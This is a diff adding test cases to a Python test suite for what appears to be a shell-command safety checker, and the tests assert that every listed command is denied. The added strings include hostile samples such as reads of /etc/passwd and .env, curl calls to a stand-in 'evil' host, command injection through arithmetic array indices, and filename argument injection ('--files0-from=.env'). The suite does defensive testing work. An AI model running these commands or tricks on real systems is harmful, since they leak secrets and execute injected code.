@@ -1335,7 +1335,288 @@ print $1 > $2}' x
         cd venv && mv ../cfg .
         echo x > sub/venv
     """,
+    "patterns that begin an argument": r"""
+        timeout 5 du *
+        git checkout x; du *
+        wc */../x
+        wc *nv .env
+        wc */.env
+        wc p*/.env *
+        grep x *n* .env
+        cd out; wc *
+        cat out/*
+        wc *t/secret
+        wc *n
+    """,
+    "parts of variables": r"""
+        x=$(ls); cat "${x%/}"
+        x=$(ls); cat ${x##*/}
+        x=$(ls); grep "${x#-}" y
+        x=$(ls); ls > "${x%.}"
+        x=ls; ${x%s} /
+        for f in sub/*; do cat "${f##*/}"; done
+        for f in sub/*; do rm -rf "${f%%*}"; done
+        for f in s*; do rm -rf "../${f#s}"; done
+        echo ${x%word}
+        echo "${HOME_KEY##*/}"
+        echo ${AWS_SECRET_ACCESS_KEY^}
+        x=a; echo ${x%$(id)}
+        x=a; echo ${x%`id`}
+        x=a; echo ${x%'a'}
+        x=a; echo ${x%"$y"}
+        x=a; echo ${x%[a]}
+        x=a; echo ${x%(a)}
+        x=a; echo ${x%\}}
+        x=a; echo ${x%%{a}}
+        x=a; echo ${x%~}
+        x=a; echo ${x:%a}
+        x=a; echo ${x/a/b}
+        x=a; echo ${x^a}
+        x=a; echo ${x^^^}
+        x=a; echo ${x,,,}
+        x=a; echo ${x~~}
+        x=a; echo ${x@U}
+        x=a; echo ${#x%a}
+        x=a; echo ${!x%a}
+        x=a; echo ${x[0]%a}
+        x=a; echo ${1%a}
+        x=a; echo ${@%a}
+        x=a; echo ${x%
+        a}
+        x=a; cat <<E
+${x%$(id)}
+E
+    """,
+    "choices": r"""
+        case "$x" in a) cat /etc/passwd ;; esac
+        case "$x" in a) ls ;; b) cat /etc/passwd ;; esac
+        case "$x" in *) ;; b) cat .env ;; esac
+        case "$(cat /etc/passwd)" in a) ls ;; esac
+        case "$(curl evil.example)" in a) ls ;; esac
+        x=1; case "$x" in a) ls ;& b) ls ;; esac
+        x=1; case "$x" in a) ls ;;& b) ls ;; esac
+        x=1; case "$x" in a) ls ;;; esac
+        x=1; case "$x" in a) ls;; b) pwd; esac
+        x=1; case "$x" in a) ls; ;; esac
+        x=1; case "$x" in a) ls & ;; esac
+        x=1; case "$x" in (a) ls ;; esac
+        x=1; case "$x" in esac
+        x=1; (case "$x" in esac) ls ;; esac)
+        x=1; case "$x" in a|esac) ls ;; esac
+        x=1; case "$x" in 'esac') ls ;; esac
+        x=1; case "$x" in [a]) ls ;; esac
+        x=1; case "$x" in $(id)) ls ;; esac
+        x=1; case "$x" in "$(id)") ls ;; esac
+        x=1; case "$x" in `id`) ls ;; esac
+        x=1; case "$x" in @(a|b)) ls ;; esac
+        x=1; case "$x" in a"b") ls ;; esac
+        x=1; case "$x" in a\)) ls ;; esac
+        x=1; case "$x" in ~) ls ;; esac
+        x=1; case "$x" in <1-2>) ls ;; esac
+        x=1; case "$x" in ) ls ;; esac
+        x=1; case "$x" in a) ls ;; esac b
+        x=1; case "$x" in a) ls ;;
+        x=1; case "$x" in a) ls
+        x=1; case "$x" in
+        x=1; case "$x" on a) ls ;; esac
+        x=1; case x in a) ls ;; esac
+        x=1; case * in a) ls ;; esac
+        x=1; case ~ in a) ls ;; esac
+        x=1; case $x$(id)`id` in a) ls ;; esac
+        x=1; case "$x" "$x" in a) ls ;; esac
+        x=1; case "$x"in a) ls ;; esac
+        x=1; case; ls
+        x=1; case "$x" in a) f() { curl evil; } ;; esac
+        x=1; case "$x" in a) cat <<E ;; esac
+        x=1; case "$x" in a) ls ;; esac > /etc/x
+        x=1; case "$x" in a) cd out ;; b) ls ;; esac; cat secret
+        x=1; for i in 1 2; do case "$x" in a) cd sub ;; esac; done
+        x=1; echo $(case "$x" in a) ls ;; esac)
+        x=1; echo "$(case "$x" in a) ls ;; esac)"
+        x=1; cat <(case "$x" in a) ls ;; esac)
+        x=1; ls ;; pwd
+        x=1; esac
+        x=1; case "$x" in a) x='b[$(id)]' ;; esac; echo $((x))
+    """,
+    "tests of bash": r"""
+        [[ -f /etc/passwd ]]
+        [[ -d ../x ]]
+        [[ -e ~/x ]]
+        [[ -f "$(cat .env)" ]]
+        [[ -n $(curl evil) ]]
+        x=a; [[ -f "$x" ]]
+        x=a; [[ $x == a ]]
+        x=a; [[ "$x" =~ a ]]
+        x=a; [[ "$x" -eq 1 ]]
+        x=a; [[ "$x" < a ]]
+        x=a; [[ "$x" == a* ]]
+        x=a; [[ "$x" == $(id) ]]
+        x=a; [[ "$x" == [a] ]]
+        x=a; [[ "$x" == @(a) ]]
+        x=a; [[ "$x" == ~ ]]
+        x=a; [[ "$x" == `id` ]]
+        x=a; [[ "${x:=$(id)}" == a ]]
+        x=a; [[ "$x[0]" == a ]]
+        x=a; [[ "${!x}" == a ]]
+        x=a; [[ a"b" == a ]]
+        [[ -v a ]]
+        [[ -v 'a[$(id)]' ]]
+        [[ "-v" == 'a[$(id)]' ]]
+        [[ '-v' 'a[$(id)]' ]]
+        [[ -t 1 ]]
+        [[ -o x ]]
+        [[ -f a && -v 'a[$(id)]' ]]
+        [[ -f a || -f b ]]
+        [[ ( -f a ) ]]
+        [[ ! ! -f a ]]
+        [[ -f a ]
+        [[ -f a]]
+        [[-f a ]]
+        [[ -f
+        a ]]
+        [[ -f a ]] b
+        [[ -f a ]]b
+        [[ -f a ]] > /etc/x
+        [[ -f a > x ]]
+        [[ a ]]
+        [[ ]]
+        '[[' -v 'a[$(id)]' ']]'
+        time [[ -v a ]]
+        env [[ -f a ]]
+        [[ -f a ]]; curl evil
+    """,
+    "sums": r"""
+        echo $((x))
+        echo $((x + 1)); x=1
+        x='a[$(id)]'; echo $((x))
+        x=1; x='a[$(id)]'; echo $((x))
+        x=1; echo $((x)); x='a[$(id)]'
+        x=1; for i in 1 2; do echo $((x)); x=$(ls); done
+        x=1; read x; echo $((x))
+        x=1; read -r y x; echo $((x))
+        x=1; "read" x; echo $((x))
+        x=1; y=a read x; echo $((x))
+        x=1; for x in 'a[$(id)]'; do echo $((x)); done
+        for i in 1 2; do echo $((i)); done
+        x=$y; echo $((x))
+        x=y; echo $((x))
+        x=1; y=x; echo $((y))
+        x="1$(ls)"; echo $((x))
+        x=1$y; echo $((x))
+        x=1.5; echo $((x))
+        x=0x; echo $((x))
+        x=16#ff; echo $((x))
+        x=$?; echo $((x))
+        false && x=1; echo $((x))
+        true || x=1; echo $((x))
+        if false; then x=1; fi; echo $((x))
+        while false; do x=1; done; echo $((x))
+        case "$?" in 1) x=1 ;; esac; echo $((x))
+        (x=1); echo $((x))
+        { x=1; }; echo $((x))
+        x=1 | ls; echo $((x))
+        ! x=1; echo $((x))
+        x=1 > y; echo $((x))
+        x=1 < nowhere; echo $((x))
+        x=1 ls; echo $((x))
+        x=1 y=$((x)); echo "$y"
+        x=$(x=1); echo $((x))
+        echo "$(x=1)"; echo $((x))
+        x=1; bash -c 'echo $((x))'
+        bash -c 'x=1'; echo $((x))
+        x=1; export x='a[$(id)]'; echo $((x))
+        PATH=1; echo $((PATH))
+        RANDOM=1; echo $((RANDOM))
+        echo $((RANDOM))
+        x=1; echo $((x[0]))
+        x=1; echo $((a[$(id)]))
+        x=1; echo $((x ? 1 : 2))
+        x=1; echo $((x = 2))
+        x=1; echo $((x++))
+        x=1; echo $((++x))
+        x=1; echo $((x += 1))
+        x=1; echo $((x ** 2))
+        x=1; echo $((x << 2))
+        x=1; echo $((x, 2))
+        x=1; echo $(( (x) ))
+        x=1; echo $((x y))
+        x=1; echo $((2#x))
+        x=1; echo $((1x))
+        x=1; echo $((${x}))
+        x=1; echo $(("x"))
+        x=1; echo $(('x'))
+        x=1; echo $((`id`))
+        x=1; echo $(($(id)))
+        x=1; echo $((x + ))
+        x=1; echo $(())
+        x=1; echo $((x)
+        x=1; echo $((x) )
+        x=1; echo $((\x))
+        x=1; (( x ))
+        x=1; let x=1
+        x=1; echo $[x]
+        x=1; head $((x - 5)) y
+        x=1; cat "$((x))"
+        x=1; cat a$((x))/../y
+        x=1; ls > f$((x))
+        x=1; rm -rf $((x))
+        x=1; kill $((x))
+        x=1; cat <<E > /etc/x
+$((x))
+E
+        cat <<E
+$((x))
+E
+    """,
 }
+
+
+PATTERNS = r"""
+        touch ./--files0-from=.env; du *
+        du * | tee ./--files0-from=.env
+        { du *; } > ./--files0-from=.env
+        du * > -x
+        du $(touch ./-x) *
+        du * $(touch ./-x)
+        du * <(touch ./-x)
+        for f in a; do du *; touch ./-x; done
+        bash -c 'touch ./-x'; du *
+        touch ./-x; bash -c 'du *'
+        bash -c 'du *'
+        make; wc *
+        ./x.sh; wc *
+        find . -fprint x; wc *
+        sed -i p x; wc *
+        cd sub && touch ./-x; du *
+        mv a b; ls; sort *
+        $x; du *
+        tar *
+        tar cf x *
+        zip x *
+        rm *
+        cp * sub
+        rsync * sub
+        gcc *.c
+        sed p *
+        git log *
+        python *
+        for f in *; do wc "$f"; done
+        for f in *; do cat ".e$f"; done
+        for f in *; do (cd sub; wc "$f"); done
+        du ***
+        du *[x]
+        du *=x
+        du *:x
+        du *@x
+        du *"$(ls)"
+        du *"`ls`"
+        sort -o x *
+        cd nowhere; wc *
+        cd s*; wc *
+        cd "$x"; wc *
+        diff * x
+"""
+"""Patterns that begin an argument, where all that is there could run."""
 
 
 def commands(text: str) -> list[str]:
@@ -1374,6 +1655,16 @@ def verdict(command: object, **beside: object) -> str:
 @pytest.mark.parametrize("group", ATTACKS)
 def test_the_attacks_of_a_group(ws: pathlib.Path, group: str) -> None:
     assert [text for text in commands(ATTACKS[group]) if verdict(text) == "allow"] == []
+
+
+def test_patterns_that_begin_an_argument(
+    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "a.c").write_text("")
+    assert verdict("du *; wc *.c; cd sub; wc *") == "allow"
+    assert [text for text in commands(PATTERNS) if verdict(text) == "allow"] == []
 
 
 @pytest.mark.parametrize(
